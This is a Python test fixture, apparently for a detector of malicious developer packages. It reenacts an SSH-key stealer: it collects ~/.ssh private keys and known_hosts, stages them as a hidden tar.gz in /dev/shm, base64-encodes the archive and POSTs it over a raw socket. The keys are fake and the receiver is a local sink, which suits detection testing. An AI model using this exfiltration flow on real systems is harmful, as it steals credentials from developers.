# technique: T1552.004 T1074.001 T1560.001 T1041
"""SSH private keys collected, archived in /dev/shm and sent out (T1552.004, T1074.001, T1560.001, T1041).

Stealer flow from malicious packages targeting developers: glob ~/.ssh for
id_* and known_hosts, add them to a tar.gz written under /dev/shm (tmpfs,
not on disk), base64 it and send it in a raw HTTP POST over a socket. The
set-up plants fake keys in HOME first, since HOME is empty in the test.

A good detector raises a high alert: SSH private keys are read and the
process then sends data over the network (and/or stages them in /dev/shm).
"""
import base64, glob, os, socket, tarfile, threading, uuid

ssh = os.path.join(os.path.expanduser("~"), ".ssh")
os.makedirs(ssh, exist_ok=True)
for n in ("id_rsa", "id_ed25519"):
    with open(os.path.join(ssh, n), "w") as f:
        f.write("-----BEGIN OPENSSH PRIVATE KEY-----\nZmFrZQ==\n-----END OPENSSH PRIVATE KEY-----\n")
lsn = socket.socket(); lsn.bind(("127.0.0.1", 0)); lsn.listen(1)
def sink():
    try:
        c, _ = lsn.accept(); c.settimeout(3)
        while c.recv(65536): pass
    except Exception: pass
threading.Thread(target=sink, daemon=True).start()
stage = f"/dev/shm/.{uuid.uuid4().hex[:10]}.tgz"
try:
    with tarfile.open(stage, "w:gz") as tar:
        for p in glob.glob(os.path.join(ssh, "id_*")) + glob.glob(os.path.join(ssh, "known_hosts")):
            tar.add(p, arcname=os.path.basename(p))
    body = base64.b64encode(open(stage, "rb").read())
    s = socket.create_connection(lsn.getsockname(), timeout=3)
    s.sendall(b"POST /upload HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    s.close()
except Exception:
    pass
finally:
    try: os.unlink(stage)
    except OSError: pass
